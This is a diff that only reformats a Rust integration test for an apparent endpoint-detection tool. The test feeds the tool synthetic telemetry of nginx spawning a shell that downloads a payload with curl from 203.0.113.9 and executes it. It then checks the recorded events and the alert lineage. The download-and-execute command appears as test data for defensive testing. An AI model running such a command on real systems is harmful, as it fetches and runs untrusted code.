@@ -21,8 +21,24 @@ fn proc_line(pid: u32, entity: &str, exe: &str, args: &[&str], ppid: u32, parent
 fn attack() -> String {
     let mut s = String::new();
     s += &proc_line(100, "00000000000000a1", "/usr/sbin/nginx", &["nginx"], 1, "0000000000000001", "/usr/lib/systemd/systemd");
-    s += &proc_line(200, "00000000000000b2", "/usr/bin/dash", &["sh", "-c", "curl -so /tmp/payload http://203.0.113.9/p; /tmp/payload"], 100, "00000000000000a1", "/usr/sbin/nginx");
-    s += &proc_line(300, "00000000000000c3", "/usr/bin/curl", &["curl", "-so", "/tmp/payload", "http://203.0.113.9/p"], 200, "00000000000000b2", "/usr/bin/dash");
+    s += &proc_line(
+        200,
+        "00000000000000b2",
+        "/usr/bin/dash",
+        &["sh", "-c", "curl -so /tmp/payload http://203.0.113.9/p; /tmp/payload"],
+        100,
+        "00000000000000a1",
+        "/usr/sbin/nginx",
+    );
+    s += &proc_line(
+        300,
+        "00000000000000c3",
+        "/usr/bin/curl",
+        &["curl", "-so", "/tmp/payload", "http://203.0.113.9/p"],
+        200,
+        "00000000000000b2",
+        "/usr/bin/dash",
+    );
     s += &(serde_json::json!({"event": {"category": ["file"], "action": "create"}, "file": {"path": "/tmp/payload"}, "process": {"pid": 300, "entity_id": "00000000000000c3", "executable": "/usr/bin/curl"}}).to_string() + "\n");
     s += &(serde_json::json!({"event": {"category": ["network"], "action": "connection_attempted"}, "network": {"transport": "tcp"}, "source": {"ip": "10.0.0.5", "port": 40000}, "destination": {"ip": "203.0.113.9", "port": 80}, "process": {"pid": 300, "entity_id": "00000000000000c3", "executable": "/usr/bin/curl"}}).to_string() + "\n");
     s += &proc_line(400, "00000000000000d4", "/tmp/payload", &["/tmp/payload"], 200, "00000000000000b2", "/usr/bin/dash");
@@ -52,7 +68,13 @@ fn record_investigate_export_and_restart() {
     let d = d.to_str().unwrap();
 
     // Every event is in the record.
-    let counts = json_rows(&edr(&["query", "--data-dir", d, "--json", "SELECT (SELECT count(*) FROM process) AS p, (SELECT count(*) FROM file) AS f, (SELECT count(*) FROM network) AS n"]));
+    let counts = json_rows(&edr(&[
+        "query",
+        "--data-dir",
+        d,
+        "--json",
+        "SELECT (SELECT count(*) FROM process) AS p, (SELECT count(*) FROM file) AS f, (SELECT count(*) FROM network) AS n",
+    ]));
     assert_eq!((counts[0]["p"].as_u64(), counts[0]["f"].as_u64(), counts[0]["n"].as_u64()), (Some(5), Some(1), Some(1)));
 
     // The storyline of the lineage alert (nginx spawned sh): its ancestors,
